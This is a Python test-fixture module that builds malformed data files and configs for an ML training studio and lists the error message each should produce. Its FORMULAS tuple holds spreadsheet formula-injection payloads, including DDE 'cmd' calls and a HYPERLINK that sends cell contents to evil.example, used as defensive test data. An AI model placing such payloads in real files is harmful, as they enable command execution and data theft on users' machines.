"""A corpus of bad inputs: each case makes one bad file or config and says what the user must see.

A case is small and self-contained: `make(tmp_path)` writes what it needs under tmp_path and returns
either a data file with its DataConfig overrides (surface "data") or a raw run config (surface
"config"). `kind` is the engine's error class name ("DataError", "ConfigError", "ModelError"), or
None for input the studio accepts (then `fragments` must appear among the data check's warnings).
Every fragment must appear in the one-sentence message the engine, the CLI and the UI show.

tests/studio/test_bad_inputs.py runs every case through all three surfaces.
"""

from __future__ import annotations

import csv
import json
import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

WORDS = {
    "billing": "refund invoice charge payment billing price receipt card".split(),
    "technical": "crash error bug login freeze broken timeout update".split(),
}
FORMULAS = ("=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")")


@dataclass(frozen=True)
class Case:
    id: str
    surface: str                      # "data": make -> (file, DataConfig overrides); "config": make -> raw config
    kind: str | None                  # engine error class name, or None when the input is accepted
    fragments: tuple[str, ...]        # phrases the user's message must hold (warnings, for accepted input)
    make: Callable[[Path], object]
    env: dict[str, str] = field(default_factory=dict)  # environment the case runs under
    task: str = "text-classification"  # the task whose data check reads the file
    ui: bool = True                   # False where the page offers no way to give this input (see why)
    why_not_ui: str = ""


def rows(per_class: int = 10, labels=("billing", "technical"), seed: int = 0) -> list[dict[str, str]]:
    """Distinct 4-word texts per class (a classifier-worthy little data set)."""
    rng = random.Random(seed)
    out, seen = [], set()
    for label in labels:
        words = WORDS.get(label, WORDS["billing"])
        while sum(1 for r in out if r["label"] == label) < per_class:
            text = " ".join(rng.sample(words, 4))
            if text not in seen:
                seen.add(text)
                out.append({"text": text, "label": label})
    rng.shuffle(out)
    return out


ROWS = rows()
GOOD_CSV = "text,label\n" + "".join(f"{r['text']},{r['label']}\n" for r in ROWS)


def _csv_rows(path: Path, records: list[dict], columns: list[str] | None = None) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=columns or list(records[0]))
        w.writeheader()
        w.writerows(records)
    return path


def raw_file(name: str, content: bytes | str, encoding: str = "utf-8", **over):
    def make(tmp: Path):
        p = tmp / name
        p.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))
        return p, over
    return make


def records_file(name: str, records: list[dict], **over):
    def make(tmp: Path):
        p = tmp / name
        if p.suffix == ".csv":
            _csv_rows(p, records)
        elif p.suffix == ".jsonl":
            p.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
        else:
            p.write_text(json.dumps(records), encoding="utf-8")
        return p, over
    return make


def config(**over):
    """A raw run config on a good little CSV, with `over` merged into its sections."""
    def make(tmp: Path):
        train = tmp / "tickets.csv"
        train.write_text(GOOD_CSV, encoding="utf-8")
        raw: dict = {"model": "minilm", "data": {"train": str(train)}, "training": {"device": "cpu"}}
        for key, value in over.items():
            if isinstance(value, dict) and isinstance(raw.get(key), dict):
                raw[key] = {**raw[key], **value}
            else:
                raw[key] = value
        return raw
    return make


def _pickle_only_model(tmp: Path) -> dict:
    folder = tmp / "pickled-bert"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({"model_type": "bert", "architectures": ["BertModel"]}))
    (folder / "pytorch_model.bin").write_bytes(b"\x80\x02}q\x00.")  # never unpickled: refused before any load
    return config(model=str(folder))(tmp)


def _remote_code_model(tmp: Path) -> dict:
    folder = tmp / "custom-code-model"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({"model_type": "custom", "auto_map": {
        "AutoConfig": "modeling_custom.CustomConfig",
        "AutoModelForSequenceClassification": "modeling_custom.CustomModel"}}))
    (folder / "model.safetensors").write_bytes(b"")
    (folder / "modeling_custom.py").write_text("raise SystemExit('remote code ran')\n")
    return config(model=str(folder))(tmp)


def _local_folder(tmp: Path) -> dict:
    folder = tmp / "some-model"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({"model_type": "bert"}))
    (folder / "model.safetensors").write_bytes(b"")
    return config(model=str(folder))(tmp)


def _test_file_with_unseen_label(tmp: Path):
    train = _csv_rows(tmp / "tickets.csv", ROWS)
    test = _csv_rows(tmp / "holdout.csv", [{"text": "where is my parcel", "label": "shipping"}])
    return train, {"test": str(test)}


BINARY = bytes(range(256)) * 8          # NUL bytes and every other byte: a binary file
ZIP_HEADER = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 40 + bytes(range(200))
LONG_TEXT = ("refund " * 15000)[:100_000]

CASES: list[Case] = [
    # ------------------------------------------------------------- files that cannot be read --
    Case("empty file", "data", "DataError", ("tickets.csv", "is empty"), raw_file("tickets.csv", b"")),
    Case("header only", "data", "DataError", ("tickets.csv", "no data rows", "add labelled rows"),
         raw_file("tickets.csv", "text,label\n")),
    Case("blank lines only", "data", "DataError", ("tickets.csv", "no header"), raw_file("tickets.csv", "\n\n\n")),
    Case("binary data named .csv", "data", "DataError", ("tickets.csv", "binary data", "save it as UTF-8"),
         raw_file("tickets.csv", BINARY)),
    Case("a zip archive named .csv", "data", "DataError", ("tickets.csv", "binary data"),
         raw_file("tickets.csv", ZIP_HEADER)),
    Case("Latin-1 text", "data", "DataError", ("tickets.csv", "not UTF-8", "Latin-1", "save it as UTF-8"),
         raw_file("tickets.csv", GOOD_CSV + "caf\u00e9 cr\u00e8me br\u00fbl\u00e9e refund,billing\n", "latin-1")),
    Case("Windows-1252 smart quotes", "data", "DataError", ("tickets.csv", "not UTF-8", "line 2"),
         raw_file("tickets.csv", "text,label\n\u201crefund me\u201d please,billing\n" + GOOD_CSV[11:], "cp1252")),
    Case("UTF-16 with a byte-order mark", "data", "DataError", ("tickets.csv", "UTF-16 text", "save it as UTF-8"),
         raw_file("tickets.csv", GOOD_CSV, "utf-16")),
    Case("UTF-16 without a byte-order mark", "data", "DataError", ("tickets.csv", "UTF-16 text"),
         raw_file("tickets.csv", GOOD_CSV, "utf-16-le")),
    Case("garbage named .parquet", "data", "DataError", ("tickets.parquet", "not a readable Parquet file"),
         raw_file("tickets.parquet", b"PAR1 this is not parquet at all" * 10)),
    Case("unsupported extension", "data", "DataError", ("tickets.xlsx", "unsupported file type .xlsx"),
         raw_file("tickets.xlsx", b"PK\x03\x04"), ui=False,
         why_not_ui="the page's file picker refuses the extension before the studio sees it (test_app_api)"),
    # ------------------------------------------------------------------------- CSV structure --
    Case("ragged CSV row", "data", "DataError", ("tickets.csv", "line 22", "4 fields", "quote texts"),
         raw_file("tickets.csv", GOOD_CSV + "refund, please, now,billing\n")),
    Case("quote left open", "data", "DataError", ("tickets.csv", "quote that is never closed"),
         raw_file("tickets.csv", GOOD_CSV + '"refund my card please,billing\n' + GOOD_CSV[11:])),
    Case("single column", "data", "DataError", ("tickets.csv", "could not find both a text and a label column"),
         raw_file("tickets.csv", "text\n" + "".join(f"{r['text']}\n" for r in ROWS))),
    Case("no header row", "data", "DataError", ("tickets.csv", "no header", "add a first line naming the columns"),
         raw_file("tickets.csv", GOOD_CSV[11:])),
    # ------------------------------------------------------------------------------ JSON shape --
    Case("JSON object, not records", "data", "DataError", ("tickets.json", "single JSON object, not a list of records"),
         raw_file("tickets.json", json.dumps({"text": "refund", "label": "billing"}))),
    Case("JSON list of numbers", "data", "DataError", ("tickets.json", "non-empty list of records"),
         raw_file("tickets.json", "[1, 2, 3]")),
    Case("JSON empty list", "data", "DataError", ("tickets.json", "non-empty list of records"),
         raw_file("tickets.json", "[]")),
    Case("JSON cut off", "data", "DataError", ("tickets.json", "is not valid JSON"),
         raw_file("tickets.json", json.dumps(ROWS)[:-40])),
    Case("JSON columns of different lengths", "data", "DataError", ("tickets.json", "columns of different lengths"),
         raw_file("tickets.json", json.dumps({"text": ["a b", "c d", "e f"], "label": ["x", "y"]}))),
    Case("JSONL with one broken line", "data", "DataError",
         ("tickets.jsonl", "line 3 is not valid JSON", "fix or remove"),
         raw_file("tickets.jsonl", "".join(json.dumps(r) + "\n" for r in ROWS[:2]) + '{"text": "refund", label}\n'
                  + "".join(json.dumps(r) + "\n" for r in ROWS[2:]))),
    Case("JSONL line that is a list", "data", "DataError", ("tickets.jsonl", "line 2 is not a JSON object"),
         raw_file("tickets.jsonl", json.dumps(ROWS[0]) + '\n["refund", "billing"]\n'
                  + "".join(json.dumps(r) + "\n" for r in ROWS[1:]))),
    # ------------------------------------------------------------------- text and label columns --
    Case("named text column missing", "data", "DataError", ("tickets.csv", "no column named 'body'", "choose one of"),
         records_file("tickets.csv", ROWS, text_column="body"), ui=False,
         why_not_ui="the page offers only the file's own columns and re-detects any other"),
    Case("named label column missing", "data", "DataError", ("tickets.csv", "no column named 'category'"),
         records_file("tickets.csv", ROWS, label_column="category"), ui=False,
         why_not_ui="the page offers only the file's own columns and re-detects any other"),
    Case("empty text column", "data", "DataError", ("tickets.csv", "text column 'text' is empty in every row"),
         records_file("tickets.csv", [{"text": "", "label": r["label"]} for r in ROWS])),
    Case("all-NaN label column", "data", "DataError", ("tickets.jsonl", "label column 'label' is empty in every row"),
         records_file("tickets.jsonl", [{"text": r["text"], "label": None} for r in ROWS])),
    Case("empty label column", "data", "DataError", ("tickets.csv", "label column 'label' is empty in every row"),
         records_file("tickets.csv", [{"text": r["text"], "label": ""} for r in ROWS])),
    Case("numbers in the text column", "data", "DataError", ("tickets.csv", "holds numbers, not text"),
         records_file("tickets.csv", [{"text": i, "label": r["label"]} for i, r in enumerate(ROWS)])),
    Case("objects in the text column", "data", "DataError", ("tickets.jsonl", "holds dict values, not text"),
         records_file("tickets.jsonl", [{"text": {"body": r["text"]}, "label": r["label"]} for r in ROWS])),
    # --------------------------------------------------------------------------------- labels --
    Case("one class only", "data", "DataError", ("tickets.csv", "single class 'billing'", "at least two labels"),
         records_file("tickets.csv", [{"text": r["text"], "label": "billing"} for r in ROWS])),
    Case("a class with a single row", "data", "DataError",
         ("tickets.csv", "class 'shipping' has 1 row", "add rows for it"),
         records_file("tickets.csv", ROWS + [{"text": "where is my parcel", "label": "shipping"}])),
    Case("test file label unseen in train", "data", "DataError",
         ("holdout.csv", "'shipping'", "never occurs in the training data"),
         _test_file_with_unseen_label, ui=False, why_not_ui="the page takes one file and splits it"),
    Case("labels that differ only by case or spaces", "data", None,
         ("Labels differing only in case or spacing were merged",),
         records_file("tickets.csv",
                      [{"text": r["text"], "label": [r["label"], r["label"].upper(), f" {r['label'].title()}  "][i % 3]}
                       for i, r in enumerate(ROWS)])),
    # ------------------------------------------------------------------------- size and content --
    Case("a 100,000-character text", "data", None, ("longer than 10,000 characters",),
         records_file("tickets.csv", [{"text": LONG_TEXT, "label": "billing"}] + ROWS)),
    Case("a file over the size limit", "data", "DataError",
         ("tickets.csv", "over this server's limit", "STUDIO_MAX_FILE_MB"),
         raw_file("tickets.csv", GOOD_CSV * 60), env={"STUDIO_MAX_FILE_MB": "0.01"}),
    Case("chat messages with unknown roles", "data", "DataError",
         ("chat.jsonl line 2", "chat messages with unknown roles ('robot')", "use system, user or assistant"),
         records_file("chat.jsonl",
                      [{"messages": [{"role": "user", "content": "hi"}, {"role": "assistant", "content": "hello"}]},
                       {"messages": [{"role": "user", "content": "hi"}, {"role": "robot", "content": "beep"}]}]),
         task="sft"),
    Case("BIO tags out of order", "data", "DataError",
         ("ner.conll line 12", "BIO tags out of order", "I-PER follows O", "must start with B-PER"),
         raw_file("ner.conll", "Alice B-PER\nsings O\n\n" * 3 + "the O\nman O\nBob I-PER\n"),
         task="token-classification"),
    Case("spreadsheet formulas in texts and labels", "data", None, (),
         records_file("tickets.csv", [{"text": f"{FORMULAS[i % len(FORMULAS)]} {r['text']}", "label": r["label"]}
                                      for i, r in enumerate(ROWS)])),
    # -------------------------------------------------------------------------------- configs --
    Case("wrong type: epochs as words", "config", "ConfigError", ("training.epochs", "expected a number"),
         config(training={"epochs": "many"})),
    Case("wrong type: fractional batch size", "config", "ConfigError",
         ("training.batch_size", "expected a whole number"), config(training={"batch_size": 2.5})),
    Case("wrong type: section is a number", "config", "ConfigError", ("training", "expected a mapping of settings"),
         config(training=3)),
    Case("negative batch size", "config", "ConfigError", ("training.batch_size", "below the minimum 1"),
         config(training={"batch_size": -4})),
    Case("zero epochs", "config", "ConfigError", ("training.epochs", "below the minimum"),
         config(training={"epochs": 0})),
    Case("zero learning rate", "config", "ConfigError", ("training.learning_rate", "below the minimum"),
         config(training={"learning_rate": 0})),
    Case("negative LoRA rank", "config", "ConfigError", ("method_args.r",), config(method_args={"r": -1})),
    Case("unknown method", "config", "ConfigError", ("method", "unknown method 'galore'", "choose one of"),
         config(method="galore")),
    Case("unknown field", "config", "ConfigError", ("bogus", "unknown setting", "known ones are"), config(bogus=1)),
    Case("unknown nested field", "config", "ConfigError", ("training.epoch", "unknown setting"),
         config(training={"epoch": 1})),
    Case("a hub model id that does not exist (offline)", "config", "ModelError",
         ("nobody-at-all/no-such-model", "not in this server's Hugging Face cache", "hub is unreachable"),
         config(model="nobody-at-all/no-such-model")),
    Case("a model folder that does not exist", "config", "ModelError", ("does not exist",),
         config(model="/nonexistent/models/bert")),
    Case("a model with pickled weights only", "config", "ModelError", ("pytorch_model.bin", "safetensors"),
         _pickle_only_model),
    Case("a model that needs remote code", "config", "ModelError", ("custom code", "--trust-remote-code"),
         _remote_code_model),
    Case("a local folder where they are disabled", "config", "ModelError", ("Local model folders are disabled",),
         _local_folder, env={"STUDIO_ALLOW_LOCAL_MODELS": "0"}),
]

DATA_CASES = [c for c in CASES if c.surface == "data"]
CONFIG_CASES = [c for c in CASES if c.surface == "config"]
